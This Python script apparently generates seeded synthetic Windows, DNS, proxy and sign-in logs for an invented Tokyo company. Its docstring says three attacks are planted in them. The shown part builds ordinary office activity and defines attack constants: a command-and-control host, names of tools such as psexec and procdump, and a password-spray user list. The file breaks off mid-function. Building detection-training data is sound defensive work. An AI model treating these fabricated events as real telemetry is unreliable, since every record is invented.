#!/usr/bin/env python3
"""Writes the sample office: the logs of an invented company with three planted attacks.

    python3 scripts/make_sample.py [--out DIR]

Everything is invented, seeded and written in a fixed order: two runs give the same bytes. `sample_data/STORIES.md`
says what is planted where. External addresses are from the documentation ranges; nothing here was copied from a real log.

How it is built: the parts below add plain records to one `Office` (Windows events, DNS queries, proxy lines, leases,
cloud sign-ins); the writers at the end turn the same records into the raw formats that real collectors produce.
Times inside are microseconds since 1970, UTC. The office is in Tokyo (UTC+9).
"""

import argparse
import base64
import gzip
import hashlib
import json
import random
from datetime import datetime, timedelta, timezone
from pathlib import Path
from xml.sax.saxutils import escape

SEC, MIN, HOUR, DAY = 1_000_000, 60_000_000, 3_600_000_000, 86_400_000_000
TOKYO = 9 * HOUR
DOMAIN, NETBIOS = "takeda.example", "TAKEDA"
SID_BASE = "S-1-5-21-1104927412-2207714033-3361290541"
PEOPLE = [  # user name, and the host PC-<SURNAME>, last octet of its usual address
    ("j.takeda", 34), ("y.sato", 21), ("h.suzuki", 22), ("r.tanaka", 23), ("n.watanabe", 24), ("s.ito", 25),
    ("m.yamamoto", 26), ("a.nakamura", 27), ("d.kobayashi", 28), ("e.kato", 29), ("f.yoshida", 30), ("t.yamada", 44),
    ("c.sasaki", 31), ("k.inoue", 32), ("o.kimura", 33), ("m.hayashi", 66), ("u.shimizu", 35), ("k.ogawa", 36),
    ("a.mori", 37),
]
BRANCH_USERS = [  # accounts without a machine in these logs; the password spray tries them too
    "b.abe", "g.fujita", "i.okada", "l.goto", "p.hasegawa", "q.ishii", "v.maeda", "w.endo", "x.aoki", "z.sakamoto",
    "a.murakami", "b.kondo", "c.ota", "d.fukuda", "e.nishimura", "f.miura", "g.takeuchi", "h.nakagawa", "i.okamoto",
    "j.matsuda", "k.harada", "l.nakano", "m.ono", "n.tamura", "o.wada", "p.ishida",
]
SERVERS = {"DC01": "10.0.1.10", "DC02": "10.0.1.11", "FS01": "10.0.1.20", "APP01": "10.0.1.40",
           "MAIL01": "10.0.1.30", "BKP01": "10.0.1.50"}
NAME_SERVER, PROXY = "10.0.1.53", "10.0.1.80"  # NS01 (BIND) and PROXY01 (Squid): Linux, not in the Windows logs
NXLOG_HOSTS = {"FS01", "APP01", "PC-HAYASHI", "PC-KIMURA", "PC-SHIMIZU"}
C2_IP, C2_NAME, MOSCOW_IP = "198.51.100.77", "ajk3k9q2x1.command-and-control.top", "203.0.113.45"
SYSMON = "Microsoft-Windows-Sysmon/Operational"
POWERSHELL = "Microsoft-Windows-PowerShell/Operational"
DEFENDER = "Microsoft-Windows-Windows Defender/Operational"
PROVIDERS = {
    SYSMON: ("Microsoft-Windows-Sysmon", "5770385F-C22A-43E0-BF4C-06F5698FFBD9"),
    "Security": ("Microsoft-Windows-Security-Auditing", "54849625-5478-4994-A5BA-3E3B0328C30D"),
    "System": ("Service Control Manager", "555908D1-A6D7-4695-8E1E-26931D2012F4"),
    POWERSHELL: ("Microsoft-Windows-PowerShell", "A0C1853B-5C40-4B15-8766-3CF1C58F985A"),
    DEFENDER: ("Microsoft-Windows-Windows Defender", "11CD958A-C507-4EF3-B3F2-5FD9DFBD2C78"),
}
EVENTLOG = "Microsoft-Windows-Eventlog"  # writes 1102 into the Security channel
SYS32, POSH = "C:\\Windows\\System32\\", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
OFFICE16 = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
AGENT = "C:\\Program Files\\Sora Endpoint\\soraagent.exe"
GUPDATER = "C:\\Program Files (x86)\\Google\\GoogleUpdater\\140.0.7272.0\\updater.exe"
MS, WIN = "Microsoft Corporation", "Microsoft® Windows® Operating System"
META = {  # base name -> description, product, company, original file name, version
    "powershell.exe": ("Windows PowerShell", WIN, MS, "PowerShell.EXE", "10.0.19041.3996"),
    "cmd.exe": ("Windows Command Processor", WIN, MS, "Cmd.Exe", "10.0.19041.4355"),
    "winword.exe": ("Microsoft Word", "Microsoft Office", MS, "WinWord.exe", "16.0.17928.20216"),
    "excel.exe": ("Microsoft Excel", "Microsoft Office", MS, "Excel.exe", "16.0.17928.20216"),
    "outlook.exe": ("Microsoft Outlook", "Microsoft Outlook", MS, "Outlook.exe", "16.0.17928.20216"),
    "onedrive.exe": ("Microsoft OneDrive", "Microsoft OneDrive", MS, "OneDrive.exe", "25.164.0824.0003"),
    "chrome.exe": ("Google Chrome", "Google Chrome", "Google LLC", "chrome.exe", "140.0.7339.128"),
    "updater.exe": ("GoogleUpdater (x86)", "GoogleUpdater (x86)", "Google LLC", "updater.exe", "140.0.7272.0"),
    "soraagent.exe": ("Sora Endpoint Agent", "Sora Endpoint", "Sora Systems K.K.", "soraagent.exe", "7.4.2.0"),
    "anydesk.exe": ("AnyDesk", "AnyDesk", "AnyDesk Software GmbH", "AnyDesk.exe", "9.0.4"),
    "procdump64.exe": ("Sysinternals process dump utility", "ProcDump", "Sysinternals - www.sysinternals.com",
                       "procdump", "11.0"),
    "psexec64.exe": ("Execute processes remotely", "Sysinternals PsExec", "Sysinternals - www.sysinternals.com",
                     "psexec.c", "2.43"),
    "psexesvc.exe": ("PsExec Service", "Sysinternals PsExec", "Sysinternals", "psexesvc.exe", "2.43"),
    "teams.exe": ("Microsoft Teams", "Microsoft Teams", MS, "ms-teams.exe", "25212.2204.3869.2204"),
    "splwow64.exe": ("Print driver host for applications", WIN, MS, "splwow64.exe", "10.0.19041.4355"),
    "robocopy.exe": ("Microsoft Robocopy", WIN, MS, "robocopy.exe", "10.0.20348.1"),
    "lk.exe": ("-", "-", "-", "-", "-"), "nxc.exe": ("-", "-", "-", "-", "-"),
}
SYSTEM_USER = "NT AUTHORITY\\SYSTEM"
LOCATION = "@location"  # marks an event that arrives through the SIEM's export


def at(text):
    """`2025-09-20T11:05:10[.fff]` (UTC) in microseconds."""
    return round(datetime.fromisoformat(text).replace(tzinfo=timezone.utc).timestamp() * 1000) * 1000


def stamp(t, form="%Y-%m-%d %H:%M:%S"):
    return (datetime(1970, 1, 1) + timedelta(microseconds=t)).strftime(form)


def millis(t, sep=" "):
    return f"{stamp(t, f'%Y-%m-%d{sep}%H:%M:%S')}.{t // 1000 % 1000:03d}"


def digest(text, size=64, algorithm="sha256"):
    return hashlib.new(algorithm, text.encode()).hexdigest()[:size]


def encoded(script):
    """What PowerShell expects after -EncodedCommand."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


def base_name(path):
    return path.rsplit("\\", 1)[-1]


def public_ip(name):
    """A stable documentation address for an external name; the attackers' own addresses are never given out."""
    n = int(digest(name, 8), 16)
    ip = f"{('192.0.2', '198.51.100', '203.0.113')[n % 3]}.{n // 3 % 200 + 20}"
    return ip if ip not in (C2_IP, MOSCOW_IP) else "192.0.2.19"


def tokyo_day(text):
    """UTC microseconds of local midnight."""
    return at(text + "T00:00:00") - TOKYO


# ---------------------------------------------------------------------------------------------- records

class Session:
    """One logon session on one host."""

    def __init__(self, host, user, logon_id, start, number):
        self.user, self.logon_id, self.number = user, logon_id, number
        self.guid = host.guid(start, int(logon_id, 16) & 0xFFFF)


class Process:
    def __init__(self, host, pid, guid, image, command, session, level, start):
        self.host, self.pid, self.guid, self.image, self.command = host, pid, guid, image, command
        self.session, self.level, self.start = session, level, start


class Host:
    def __init__(self, name, user=None):
        self.name, self.user = name, user
        self.fqdn = f"{name}.{DOMAIN}"
        self.machine = digest("machine" + name, 8)
        self.mac = "00155D" + digest("mac" + name, 6).upper()
        self.rng = random.Random("host " + name)
        self.pid, self.sequence, self.logon = 600, 0x30, 0x41000 + self.rng.randrange(0x9000)
        self.resolved = {}
        self.system = Session(self, SYSTEM_USER, "0x3e7", at("2025-08-01T00:00:00"), 0)
        self.named = {}  # long-lived processes by role: services, lsass, svchost, explorer, agent

    def guid(self, t, n):
        seconds = t // SEC
        return f"{{{self.machine}-{seconds & 0xFFFF:04x}-{seconds >> 16:04x}-{n:04x}-000000000700}}"

    def process(self, t, image, command, session, level):
        self.pid += 4 * self.rng.randrange(1, 9)
        self.sequence += 1
        return Process(self, self.pid, self.guid(t, self.sequence), image, command, session, level, t)

    def session(self, t, user, number):
        self.logon += self.rng.randrange(0x900, 0x5000)
        return Session(self, f"{NETBIOS}\\{user}", hex(self.logon), t, number)


class Office:
    def __init__(self):
        self.events, self.dns, self.msdns, self.web, self.leases, self.cloud = [], [], [], [], [], []
        self.hosts = {name: Host(name) for name in SERVERS}
        for user, _ in PEOPLE:
            name = pc(user)
            self.hosts[name] = Host(name, user)
        for host in self.hosts.values():
            if host.user is None:
                boot_server(host)

    def event(self, t, host, channel, event_id, data, provider=None):
        self.events.append((t, len(self.events), host, channel, event_id, data, provider))

    # Sysmon ------------------------------------------------------------------------------------

    def sysmon(self, t, host, event_id, data):
        self.event(t, host, SYSMON, event_id, {"RuleName": "-", "UtcTime": millis(t), **data})

    def start(self, t, parent, image, command=None, session=None, level=None, folder=None):
        """Sysmon 1. Session and integrity level are the parent's unless given."""
        host, session, level = parent.host, session or parent.session, level or parent.level
        process = host.process(t, image, command or f'"{image}"', session, level)
        name = base_name(image)
        text = META.get(name.lower(), (name.rsplit(".", 1)[0], WIN, MS, name, "10.0.19041.1"))
        hashes = f"SHA256={digest('file' + image.lower() + text[4]).upper()}"
        if host.name in NXLOG_HOSTS:
            hashes = f"MD5={digest(image.lower(), 32, 'md5').upper()},{hashes}"
        self.sysmon(t, host, 1, {
            "ProcessGuid": process.guid, "ProcessId": str(process.pid), "Image": image, "FileVersion": text[4],
            "Description": text[0], "Product": text[1], "Company": text[2], "OriginalFileName": text[3],
            "CommandLine": process.command, "CurrentDirectory": folder or SYS32, "User": session.user,
            "LogonGuid": session.guid, "LogonId": session.logon_id, "TerminalSessionId": str(session.number),
            "IntegrityLevel": level, "Hashes": hashes, "ParentProcessGuid": parent.guid,
            "ParentProcessId": str(parent.pid), "ParentImage": parent.image, "ParentCommandLine": parent.command,
            "ParentUser": parent.session.user})
        return process

    def actor(self, process):
        return {"ProcessGuid": process.guid, "ProcessId": str(process.pid), "Image": process.image}

    def stop(self, t, process):
        self.sysmon(t, process.host, 5, {**self.actor(process), "User": process.session.user})

    def run(self, t, parent, image, command=None, seconds=2, **more):
        """A process that starts and ends."""
        process = self.start(t, parent, image, command, **more)
        self.stop(t + int(seconds * SEC), process)
        return process

    def connect(self, t, process, ip, port, name="-"):
        host = process.host
        self.sysmon(t, host, 3, {
            **self.actor(process), "User": process.session.user, "Protocol": "tcp", "Initiated": "true",
            "SourceIsIpv6": "false", "SourceIp": address(host.name, t), "SourceHostname": host.fqdn,
            "SourcePort": str(host.rng.randrange(49700, 65000)), "SourcePortName": "-", "DestinationIsIpv6": "false",
            "DestinationIp": ip, "DestinationHostname": name, "DestinationPort": str(port),
            "DestinationPortName": "https" if port == 443 else "-"})

    def write(self, t, process, path):
        self.sysmon(t, process.host, 11, {**self.actor(process), "TargetFilename": path, "CreationUtcTime": millis(t),
                                          "User": process.session.user})

    def delete(self, t, process, path):
        self.sysmon(t, process.host, 23, {
            "ProcessGuid": process.guid, "ProcessId": str(process.pid), "User": process.session.user,
            "Image": process.image, "TargetFilename": path, "Hashes": f"SHA256={digest(path).upper()}",
            "IsExecutable": "false", "Archived": "false"})

    def set_value(self, t, process, key, details):
        self.sysmon(t, process.host, 13, {"EventType": "SetValue", **self.actor(process), "TargetObject": key,
                                          "Details": details, "User": process.session.user})

    def open_process(self, t, source, target, mask, trace):
        self.sysmon(t, source.host, 10, {
            "SourceProcessGUID": source.guid, "SourceProcessId": str(source.pid), "SourceThreadId": "5120",
            "SourceImage": source.image, "TargetProcessGUID": target.guid, "TargetProcessId": str(target.pid),
            "TargetImage": target.image, "GrantedAccess": mask, "CallTrace": trace,
            "SourceUser": source.session.user, "TargetUser": target.session.user})

    def resolve(self, t, process, name, ip, status="0"):
        """Sysmon 22 (the DNS server's own line is `query`)."""
        self.sysmon(t, process.host, 22, {
            "ProcessGuid": process.guid, "ProcessId": str(process.pid), "QueryName": name, "QueryStatus": status,
            "QueryResults": f"::ffff:{ip};" if ip else "-", "Image": process.image, "User": process.session.user})

    # the network's own logs ----------------------------------------------------------------------

    def query(self, t, host, name, kind="A", ttl=300, ip=None, code="NOERROR"):
        """A query at NS01; answered from the client's cache while the TTL lasts."""
        if kind == "A" and host.resolved.get(name, 0) > t:
            return
        host.resolved[name] = t + ttl * SEC
        self.dns.append((t, len(self.dns), address(host.name, t), name, kind, ttl, ip or public_ip(name), code))

    def visit(self, t, host, name, method="CONNECT", path="", size=4200, elapsed=300, mime="text/html", ttl=300,
              ip=None, sent=900):
        """A DNS query when needed and one Squid line (Squid writes it when the transfer ends)."""
        self.query(t, host, name, ttl=ttl, ip=ip)
        target = f"{name}:443" if method == "CONNECT" else f"http://{name}{path}"
        self.web.append((t + elapsed * 1000, len(self.web), elapsed, address(host.name, t), method, target, size,
                         ip or public_ip(name), mime if method != "CONNECT" else "-", sent))

    # logons ------------------------------------------------------------------------------------

    def logon(self, t, host, user, kind, ip="-", workstation="-", package="Kerberos", logon_id=None, process="-",
              **more):
        """Security 4624 on `host`; returns the logon id."""
        if logon_id is None:
            host.logon += host.rng.randrange(0x200, 0x2000)
            logon_id = hex(host.logon)
        local = kind in (2, 10, 11)
        self.event(t, host, "Security", 4624, {
            "SubjectUserSid": "S-1-5-18" if local else "S-1-0-0", "SubjectUserName": f"{host.name}$" if local else "-",
            "SubjectDomainName": NETBIOS if local else "-", "SubjectLogonId": "0x3e7" if local else "0x0",
            "TargetUserSid": sid(user), "TargetUserName": user, "TargetDomainName": NETBIOS,
            "TargetLogonId": logon_id, "LogonType": str(kind),
            "LogonProcessName": "User32 " if local else ("NtLmSsp " if package == "NTLM" else "Kerberos"),
            "AuthenticationPackageName": "Negotiate" if local else package, "WorkstationName": workstation,
            "LogonGuid": "{00000000-0000-0000-0000-000000000000}", "TransmittedServices": "-",
            "LmPackageName": "NTLM V2" if package == "NTLM" else "-", "KeyLength": "128" if package == "NTLM" else "0",
            "ProcessId": "0x2f4" if local else "0x0", "ProcessName": f"{SYS32}svchost.exe" if local else process,
            "IpAddress": ip, "IpPort": "0" if ip in ("-", "127.0.0.1") else str(host.rng.randrange(49700, 65000)),
            "ImpersonationLevel": "%%1833", "RestrictedAdminMode": "-", "TargetOutboundUserName": "-",
            "TargetOutboundDomainName": "-", "VirtualAccount": "%%1843", "TargetLinkedLogonId": "0x0",
            "ElevatedToken": "%%1843", **more})
        return logon_id

    def logon_failed(self, t, host, user, ip, workstation, sub="0xc000006a", kind=3):
        self.event(t, host, "Security", 4625, {
            "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0",
            "TargetUserSid": "S-1-0-0", "TargetUserName": user, "TargetDomainName": NETBIOS, "Status": "0xc000006d",
            "FailureReason": "%%2313", "SubStatus": sub, "LogonType": str(kind), "LogonProcessName": "NtLmSsp ",
            "AuthenticationPackageName": "NTLM", "WorkstationName": workstation, "TransmittedServices": "-",
            "LmPackageName": "-", "KeyLength": "0", "ProcessId": "0x0", "ProcessName": "-", "IpAddress": ip,
            "IpPort": str(host.rng.randrange(49700, 65000))})
        self.validated(t - 4000, host, user, workstation, sub)

    def validated(self, t, host, user, workstation, status="0x0"):
        self.event(t, host, "Security", 4776, {"PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0",
                                               "TargetUserName": user, "Workstation": workstation, "Status": status})

    def special(self, t, host, user, logon_id):
        self.event(t, host, "Security", 4672, {
            "SubjectUserSid": sid(user), "SubjectUserName": user, "SubjectDomainName": NETBIOS,
            "SubjectLogonId": logon_id, "PrivilegeList": "SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\t"
            "SeRestorePrivilege\n\t\t\tSeDebugPrivilege\n\t\t\tSeImpersonatePrivilege"})

    def tickets(self, t, dc, user, ip, services):
        """4768 for the user and one 4769 for each service."""
        common = {"TicketEncryptionType": "0x12", "Status": "0x0", "IpAddress": f"::ffff:{ip}",
                  "IpPort": str(dc.rng.randrange(49700, 65000))}
        self.event(t, dc, "Security", 4768, {
            "TargetUserName": user, "TargetDomainName": DOMAIN.upper(), "TargetSid": sid(user),
            "ServiceName": "krbtgt", "ServiceSid": f"{SID_BASE}-502", "TicketOptions": "0x40810010",
            "PreAuthType": "2", **common, "CertIssuerName": "", "CertSerialNumber": "", "CertThumbprint": ""})
        for n, service in enumerate(services):
            self.event(t + (n + 1) * 21000, dc, "Security", 4769, {
                "TargetUserName": f"{user}@{DOMAIN.upper()}", "TargetDomainName": DOMAIN.upper(),
                "ServiceName": service, "ServiceSid": sid(service), "TicketOptions": "0x40810000", **common,
                "LogonGuid": "{00000000-0000-0000-0000-000000000000}", "TransmittedServices": "-"})

    def share(self, t, host, user, logon_id, ip, name, path=None, mask="0x1", accesses="%%4416\n\t\t\t\t"):
        """5140 (no path) or 5145."""
        data = {"SubjectUserSid": sid(user), "SubjectUserName": user, "SubjectDomainName": NETBIOS,
                "SubjectLogonId": logon_id, "ObjectType": "File", "IpAddress": ip, "IpPort": "50112",
                "ShareName": f"\\\\*\\{name}", "ShareLocalPath": SHARE_PATHS.get(name, "")}
        if path is not None:
            data["RelativeTargetName"] = path
        data |= {"AccessMask": mask, "AccessList": accesses}
        if path is not None:
            data["AccessReason"] = "-"
        self.event(t, host, "Security", 5140 if path is None else 5145, data)

    # the rest ----------------------------------------------------------------------------------

    def service(self, t, host, name, path, kind="user mode service", start="auto start", account="LocalSystem"):
        self.event(t, host, "System", 7045, {"ServiceName": name, "ImagePath": path, "ServiceType": kind,
                                             "StartType": start, "AccountName": account})

    def script(self, t, host, text, path=""):
        self.event(t, host, POWERSHELL, 4104, {
            "MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": text,
            "ScriptBlockId": f"{digest(host.name + text + str(t), 8)}-5d1c-4f0e-9a77-{digest(text, 12)}", "Path": path})

    def defender(self, t, host, event_id, **data):
        self.event(t, host, DEFENDER, event_id, {"Product Name": "Microsoft Defender Antivirus",
                                                 "Product Version": "4.18.25070.5",
                                                 **{k.replace("_", " "): v for k, v in data.items()}})

    def task(self, t, host, user, logon_id, name, command, arguments, author, run_as, trigger):
        content = (
            '<?xml version="1.0" encoding="UTF-16"?>\n<Task version="1.3" '
            'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\n  <RegistrationInfo>\n    '
            f"<Author>{author}</Author>\n    <URI>{escape(name)}</URI>\n  </RegistrationInfo>\n  <Triggers>{trigger}"
            f'</Triggers>\n  <Principals>\n    <Principal id="Author">\n      <UserId>{run_as}</UserId>\n      '
            "<RunLevel>HighestAvailable</RunLevel>\n    </Principal>\n  </Principals>\n  <Settings>\n    "
            '<Hidden>false</Hidden>\n    <Enabled>true</Enabled>\n  </Settings>\n  <Actions Context="Author">\n    '
            f"<Exec>\n      <Command>{escape(command)}</Command>\n      <Arguments>{escape(arguments)}</Arguments>\n"
            "    </Exec>\n  </Actions>\n</Task>")
        self.event(t, host, "Security", 4698, {
            "SubjectUserSid": sid(user), "SubjectUserName": user, "SubjectDomainName": NETBIOS,
            "SubjectLogonId": logon_id, "TaskName": name, "TaskContent": content})


SHARE_PATHS = {"Sales": "\\??\\D:\\Shares\\Sales", "HR": "\\??\\D:\\Shares\\HR", "Design": "\\??\\D:\\Shares\\Design",
               "ADMIN$": "\\??\\C:\\Windows", "C$": "\\??\\C:\\"}


def pc(user):
    return "PC-" + user.split(".")[1].upper()


def sid(user):
    if user.upper() == "SYSTEM":
        return "S-1-5-18"
    return f"{SID_BASE}-{1100 + int(digest(user.lower(), 6), 16) % 8000}"


def address(host, t):
    """The IPv4 address that `host` has at `t`. On 20 September (Tokyo) 10.0.5.21 has moved from PC-SATO to PC-TAKEDA."""
    if host in SERVERS:
        return SERVERS[host]
    if t >= tokyo_day("2025-09-20") and host in ("PC-TAKEDA", "PC-SATO"):
        return {"PC-TAKEDA": "10.0.5.21", "PC-SATO": "10.0.5.38"}[host]
    return next(f"10.0.5.{octet}" for user, octet in PEOPLE if pc(user) == host)


def boot_server(host):
    """Servers started before the logs begin: their first processes are known but have no Sysmon 1."""
    t = at("2025-08-10T18:00:00")
    for role, image, command in [
        ("services", SYS32 + "services.exe", SYS32 + "services.exe"),
        ("lsass", SYS32 + "lsass.exe", SYS32 + "lsass.exe"),
        ("svchost", SYS32 + "svchost.exe", SYS32 + "svchost.exe -k netsvcs -p -s Schedule"),
        ("agent", AGENT, f'"{AGENT}" --service'),
        ("system", "System", "System"),
    ]:
        host.named[role] = host.process(t, image, command, host.system, "System")
    host.named["system"].pid = 4


# ---------------------------------------------------------------------------------------------- ordinary life

SITES = [f"www.{name}.example" for name in (
    "nikkan-news", "tabi-navi", "asahi-weather", "keizai-online", "recipe-note", "train-transfer", "map-view",
    "mail-portal", "shop-maru", "book-store", "cloud-drive", "travel-yado", "wiki-jiten", "movie-channel", "soccer-life",
    "job-search", "bank-online", "city-hall", "tax-guide", "parts-catalog", "steel-market", "logi-track", "hr-portal",
    "e-learning", "print-shop", "office-supply", "tech-blog", "code-forum", "patent-search", "trade-journal",
    "machinery-news", "lunch-bento", "hotel-plan", "bus-time", "golf-reserve", "garden-life", "cat-photo", "music-box",
    "kids-school", "clinic-guide")]
SHARED = ["fonts.webtype-static.example", "d1a2b3c4e5f6g7.cloudfront.net", "d3k9x2q7w1zz8v.cloudfront.net",
          "a9f3c71be204d8.azureedge.net", "metrics.pageview-count.example", "ads.banner-net.example",
          "js.tagloader.example", "e7c1b9a4d2.akamaiedge.net"]
PAGES = ["/", "/index.html", "/news/", "/search?q=", "/img/logo.png", "/article/", "/static/app.js", "/list?page="]
INVENTORY = ("Get-CimInstance Win32_OperatingSystem | Select-Object Caption,Version,BuildNumber,LastBootUpTime; "
             "Get-CimInstance Win32_Product | Select-Object Name,Version | ConvertTo-Json -Compress")
FOLDERS = ["Quotes", "Contracts", "2025", "Customers\\Kanto", "Customers\\Kansai", "Plans", "Minutes", "Budget"]
STEMS = ["estimate", "order", "drawing", "minutes", "report", "price-list", "schedule", "photo", "budget", "invoice"]
KINDS = ["docx", "xlsx", "pdf", "pptx", "jpg", "dwg", "csv", "txt"]


def browse(office, host, chrome, begin, end, rng):
    """Page views with heavy-tailed gaps; a few of them also appear in Sysmon."""
    t = begin
    while t < end:
        site = SITES[min(int(rng.paretovariate(0.55)) - 1, len(SITES) - 1)]
        for n in range(rng.randrange(1, 5)):
            name = site if n == 0 else rng.choice(SHARED)
            when = t + n * rng.randrange(60_000, 900_000)
            if rng.random() < 0.12:
                path = rng.choice(PAGES)
                office.visit(when, host, name, "GET", path + (str(rng.randrange(900)) if path[-1] in "=/" else ""),
                             rng.randrange(900, 60000), rng.randrange(20, 900), rng.choice(["text/html", "image/png"]))
            else:
                office.visit(when, host, name, size=rng.randrange(3000, 400000), elapsed=rng.randrange(80, 60000),
                             ttl=60 if "." in name and name.endswith("net") else 300)
        if rng.random() < 0.07:
            office.resolve(t - 20_000, chrome, site, public_ip(site))
            office.connect(t + 30_000, chrome, public_ip(site), 443, site)
        t += int(min(rng.paretovariate(1.05) * 45, 3 * 3600) * SEC)


def background(office, host, agent, begin, end, rng):
    """Periodic traffic that most hosts have: endpoint agent, chat presence, telemetry, updaters."""
    for name, every, jitter, process, size in [
        ("checkin.sora-endpoint.example", 30 * MIN, 4 * SEC, agent, 3100),
        ("presence.teams.microsoft.com", 15 * MIN, 2 * SEC, None, 5200),
        ("settings-win.data.microsoft.com", 60 * MIN, 90 * SEC, None, 4400),
        ("update.googleapis.com", 5 * HOUR, 300 * SEC, None, 9100),
    ]:
        t = begin + rng.randrange(every)
        while t < end:
            office.visit(t, host, name, size=size + rng.randrange(60), elapsed=rng.randrange(90, 400))
            if process:
                office.connect(t + 8000, process, public_ip(name), 443, name)
            t += every + rng.randrange(-jitter, jitter)
    t = begin + rng.randrange(HOUR)
    while t < end:
        office.visit(t, host, "ctldl.windowsupdate.com", "GET", "/msdownload/update/v3/static/trustedr/en/authrootstl.cab",
                     312, 60, "application/octet-stream")
        office.query(t + SEC, host, f"_ldap._tcp.dc._msdcs.{DOMAIN}", "SRV", ip="10.0.1.10")
        t += 5 * HOUR


def boot(office, t, host):
    """A workstation starts and its user logs on. Sysmon 1 for the whole tree, so that lineage has no gaps."""
    system = host.process(t, "System", "System", host.system, "System")
    system.pid = 4
    host.named = {"system": system}
    smss = office.start(t, system, SYS32 + "smss.exe", "\\SystemRoot\\System32\\smss.exe")
    child = office.run(t + SEC, smss, SYS32 + "smss.exe", "\\SystemRoot\\System32\\smss.exe 000000d0 00000084", 3)
    wininit = office.start(t + 2 * SEC, child, SYS32 + "wininit.exe", "wininit.exe")
    winlogon = office.start(t + 2 * SEC + 90_000, child, SYS32 + "winlogon.exe", "winlogon.exe")
    services = office.start(t + 3 * SEC, wininit, SYS32 + "services.exe", SYS32 + "services.exe")
    host.named["lsass"] = office.start(t + 3 * SEC + 40_000, wininit, SYS32 + "lsass.exe", SYS32 + "lsass.exe")
    host.named["services"] = services
    host.named["svchost"] = office.start(t + 4 * SEC, services, SYS32 + "svchost.exe",
                                         SYS32 + "svchost.exe -k netsvcs -p -s Schedule")
    office.start(t + 5 * SEC, services, SYS32 + "spoolsv.exe", SYS32 + "spoolsv.exe")
    host.named["agent"] = office.start(t + 7 * SEC, services, AGENT, f'"{AGENT}" --service')
    ip, dc = address(host.name, t), office.hosts["DC01" if host.rng.random() < 0.6 else "DC02"]
    office.tickets(t + 15 * SEC, dc, f"{host.name}$", ip, [f"{dc.name}$"])
    return user_logon(office, t + 80 * SEC, host, winlogon, dc)


def user_logon(office, t, host, winlogon, dc):
    session = host.session(t, host.user, 1)
    office.tickets(t - SEC, dc, host.user, address(host.name, t), [f"{host.name}$", "FS01$", f"{dc.name}$"])
    office.logon(t, host, host.user, 2, "127.0.0.1", host.name, logon_id=session.logon_id)
    userinit = office.run(t + SEC, winlogon, SYS32 + "userinit.exe", SYS32 + "userinit.exe", 25, session=session,
                          level="Medium")
    explorer = office.start(t + 2 * SEC, userinit, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE")
    host.named["explorer"] = explorer
    profile = f"C:\\Users\\{host.user}"
    drive = office.start(t + 30 * SEC, explorer, f"{profile}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
                         f'"{profile}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background')
    office.set_value(t + 36 * SEC, drive,
                     f"HKU\\{sid(host.user)}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive",
                     f'"{profile}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background')
    office.connect(t + 40 * SEC, drive, public_ip("storage.live.com"), 443, "storage.live.com")
    office.visit(t + 40 * SEC, host, "storage.live.com", size=8200)
    fs01 = office.hosts["FS01"]
    logon_id = office.logon(t + 45 * SEC, fs01, host.user, 3, address(host.name, t), "-")
    office.share(t + 45 * SEC + 60_000, fs01, host.user, logon_id, address(host.name, t), "Sales")
    return logon_id


def office_work(office, host, begin, end, rng):
    """Mail, documents, printing, the file server."""
    explorer, fs01, user = host.named["explorer"], office.hosts["FS01"], host.user
    outlook = office.start(begin + 3 * MIN, explorer, OFFICE16 + "OUTLOOK.EXE")
    office.connect(begin + 3 * MIN + 4 * SEC, outlook, public_ip("outlook.office365.com"), 443, "outlook.office365.com")
    host.named["outlook"] = outlook
    for _ in range(rng.randrange(2, 5)):
        t = rng.randrange(begin + 5 * MIN, end - 30 * MIN)
        name = f"{rng.choice(STEMS)}-{rng.randrange(100, 999)}"
        if rng.random() < 0.6:
            image, path = OFFICE16 + "WINWORD.EXE", f"C:\\Users\\{user}\\Documents\\{name}.docx"
            word = office.start(t, explorer, image, f'"{image}" /n "{path}" /o ""')
            office.write(t + 9 * SEC, word, f"C:\\Users\\{user}\\Documents\\~${name[2:]}.docx")
            if rng.random() < 0.4:  # the label add-in prints: a child process of Word that is harmless
                office.run(t + 2 * MIN, word, "C:\\Windows\\splwow64.exe", "C:\\Windows\\splwow64.exe 12288", 90)
            office.stop(t + rng.randrange(4, 25) * MIN, word)
        else:
            image, path = OFFICE16 + "EXCEL.EXE", f"\\\\FS01\\Sales\\{rng.choice(FOLDERS)}\\{name}.xlsx"
            office.run(t, explorer, image, f'"{image}" "{path}"', rng.randrange(200, 1500))
    ip = address(host.name, begin)
    logon_id = office.logon(begin + 10 * MIN, fs01, user, 3, ip, "-")
    for _ in range(rng.randrange(4, 12)):
        t = rng.randrange(begin + 11 * MIN, end)
        path = f"{rng.choice(FOLDERS)}\\{rng.choice(STEMS)}-{rng.randrange(100, 999)}.{rng.choice(KINDS)}"
        if rng.random() < 0.25:
            office.share(t, fs01, user, logon_id, ip, "Sales", path, "0x2", "%%4417\n\t\t\t\t")
        else:
            office.share(t, fs01, user, logon_id, ip, rng.choice(["Sales", "Design"]), path)
    office.event(end - MIN, fs01, "Security", 4634, {
        "TargetUserSid": sid(user), "TargetUserName": user, "TargetDomainName": NETBIOS, "TargetLogonId": logon_id,
        "LogonType": "3"})


def management(office, host, begin, rng):
    """The endpoint agent's daily inventory: the same encoded script on every machine, started by the same parent."""
    t = begin + 20 * MIN + rng.randrange(30 * MIN)
    office.run(t, host.named["agent"], POSH,
               f"powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -EncodedCommand {encoded(INVENTORY)}",
               6, session=host.system, level="System")
    office.script(t + SEC, host, INVENTORY)


def updater(office, host, begin, rng):
    """Google's updater: service, task and process on most hosts."""
    t = begin + 40 * MIN + rng.randrange(40 * MIN)
    if host.name == "PC-TAKEDA":
        return
